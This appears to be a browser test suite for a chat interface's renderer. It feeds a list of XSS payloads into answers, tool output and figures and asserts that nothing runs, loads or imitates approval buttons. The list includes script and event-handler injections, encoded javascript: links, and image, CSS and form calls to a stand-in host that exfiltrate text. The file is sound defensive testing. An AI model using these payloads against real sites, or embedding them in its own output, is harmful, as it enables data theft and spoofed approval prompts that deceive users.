"""What a model writes can do no harm: nothing runs, loads, leads astray or imitates the panel."""

from __future__ import annotations

from typing import Any

import pytest

from .conftest import ChatPage, as_approval, text_message

pytestmark = pytest.mark.browser

ATTACKS = [
    "<script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 1'>",
    "<svg onload='window.harmed = 1'><script>window.harmed = 1</script></svg>",
    "<iframe srcdoc='<script>parent.harmed = 1</script>'></iframe>",
    "<iframe src='javascript:parent.harmed=1'></iframe>",
    "[link](javascript:window.harmed=1)",
    "[link](JaVaScRiPt&#58;window.harmed=1)",
    "[link](&#x6A;avascript:window.harmed=1)",
    "<a href='java\nscript:window.harmed=1'>link</a>",
    "[link](data:text/html;base64,PHNjcmlwdD4=)",
    "[link](vbscript:x)",
    "[link](file:///etc/passwd)",
    "[link](/api/contents)",
    "![picture](javascript:window.harmed=1)",
    "![picture](https://elsewhere.example/steal?text=secret)",
    "<img src='//elsewhere.example/steal'>",
    "<img srcset='https://elsewhere.example/steal 1x'>",
    "<div style='background: url(https://elsewhere.example/steal)'>text</div>",
    "<style>@import 'https://elsewhere.example/steal'; * { color: red }</style>",
    "<link rel=stylesheet href=https://elsewhere.example/steal>",
    "<video src='https://elsewhere.example/steal' autoplay></video>",
    "<object data='https://elsewhere.example/steal'></object>",
    "<embed src='https://elsewhere.example/steal'>",
    "<form action='https://elsewhere.example/steal'><input name=a><button>Go</button></form>",
    "<button class='na-button na-primary' onclick='window.harmed = 1'>Allow once</button>",
    "<div class='na-approval' id='place' name='x'>Allow “Run”?</div>",
    "<base href='https://elsewhere.example/'>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/steal'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=window.harmed=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.harmed=1>'>",
    "<details open ontoggle='window.harmed = 1'>text</details>",
    "<a href='https://good.example' target=_self onclick='window.harmed = 1'>good</a>",
    '```python" onmouseover="window.harmed=1\n<img src=x onerror=window.harmed=1>\n```',
    "`<img src=x onerror=window.harmed=1>`",
    "$<img src=x onerror=window.harmed=1>$",
    "$$\n<img src=x onerror=window.harmed=1>\n$$",
    "| a |\n|---|\n| <img src=x onerror=window.harmed=1> |",
    "[x]: javascript:window.harmed=1\n\n[x]",
    '<https://good.example/" onclick="window.harmed=1>',
]
CHECK = """() => {
  const inside = document.querySelector(".na-log");
  const elements = [...inside.querySelectorAll(".na-markdown *")];
  const allowed = ["href", "title", "alt", "src", "align", "colspan", "rowspan", "start", "open",
    "class", "target", "rel", "type", "aria-label", "tabindex", "role", "viewBox", "aria-hidden",
    "focusable", "d"];
  return {
    harmed: window.harmed ?? null,
    attributes: elements.flatMap(each => each.getAttributeNames())
      .filter(name => !allowed.includes(name)),
    tags: elements.map(each => each.localName).filter(name => ["script", "style", "iframe", "form",
      "input", "object", "embed", "link", "meta", "base", "video", "math"].includes(name)),
    links: elements.filter(each => each.localName === "a" && each.hasAttribute("href"))
      .map(each => [new URL(each.href).protocol, each.target, each.rel]),
    imitations: elements.filter(each => each.localName === "button"
      && each.textContent.includes("Allow")).length
      + inside.querySelectorAll(".na-markdown .na-approval, .na-markdown #place").length,
  };
}"""


def test_nothing_in_an_answer_runs_or_loads_or_imitates(chat: ChatPage) -> None:
    for number in range(0, len(ATTACKS), 8):
        chat.snapshot(
            messages=[
                text_message(f"a{number}:{at}", attack)
                for at, attack in enumerate(ATTACKS[number : number + 8])
            ]
        )
        found = chat.page.evaluate(CHECK)
        links = found.pop("links")
        assert found == {"harmed": None, "attributes": [], "tags": [], "imitations": 0}
        for protocol, target, rel in links:
            assert protocol in ("https:", "mailto:")
            assert (target, rel) == ("_blank", "noopener noreferrer")
    assert chat.requests == []


def test_half_written_answer_is_as_safe_as_a_whole_one(chat: ChatPage) -> None:
    running = {"state": "running", "run_id": "r1"}
    chat.snapshot(messages=[text_message("a1", "", state="running")], run=running)
    for piece in ("<img src=x one", "rror=window.harmed=1", ">\n\n<scr", "ipt>window.harmed=1</sc"):
        chat.delta({"op": "append", "block": "a1:t", "field": "text", "text": piece})
    assert chat.page.evaluate(CHECK)["harmed"] is None
    assert chat.requests == []


def test_tool_output_arguments_and_names_are_text(chat: ChatPage) -> None:
    attack = "<img src=x onerror='window.harmed = 1'>"
    tool: dict[str, Any] = {
        "id": "k",
        "type": "tool",
        "name": attack,
        "label": attack,
        "status": "succeeded",
    }
    tool |= {"arguments": {attack: attack}, "output": attack, "summary": attack, "diff": attack}
    message = {"id": "a1", "role": "assistant", "state": "failed", "blocks": [tool]}
    approval = as_approval(label=attack, reason=attack, where=attack, code=None)
    error = {"text": attack, "advice": attack}
    title = {"id": attack, "title": attack}
    chat.snapshot(messages=[message | {"error": error}, approval], conversation=title)
    chat.page.locator(".na-tool summary").click()
    chat.settle()
    assert chat.page.evaluate(CHECK)["harmed"] is None
    assert chat.page.locator(".na-log img").count() == 0
    assert chat.requests == []


def test_picture_of_another_host_is_loaded_when_the_person_asks(chat: ChatPage) -> None:
    address = "https://elsewhere.example/plot.png"
    chat.snapshot(messages=[text_message("a1", f"![plot]({address})")])
    assert chat.requests == []
    button = chat.page.get_by_role("button", name="Load picture “plot” from elsewhere.example")
    button.click()
    chat.settle()
    assert chat.requests == [address]


def test_svg_of_a_figure_is_a_picture_without_scripts(chat: ChatPage) -> None:
    content = "<svg xmlns='http://www.w3.org/2000/svg'><script>window.harmed = 1</script></svg>"
    figure = {"id": "f1", "type": "figure", "label": "Plot", "media_type": "image/svg+xml"}
    message = {"id": "a1", "role": "assistant", "state": "succeeded"}
    chat.snapshot(messages=[message | {"blocks": [figure | {"content": content}]}])
    assert chat.page.get_by_role("img", name="Plot").count() == 1
    assert chat.page.evaluate("() => window.harmed ?? null") is None
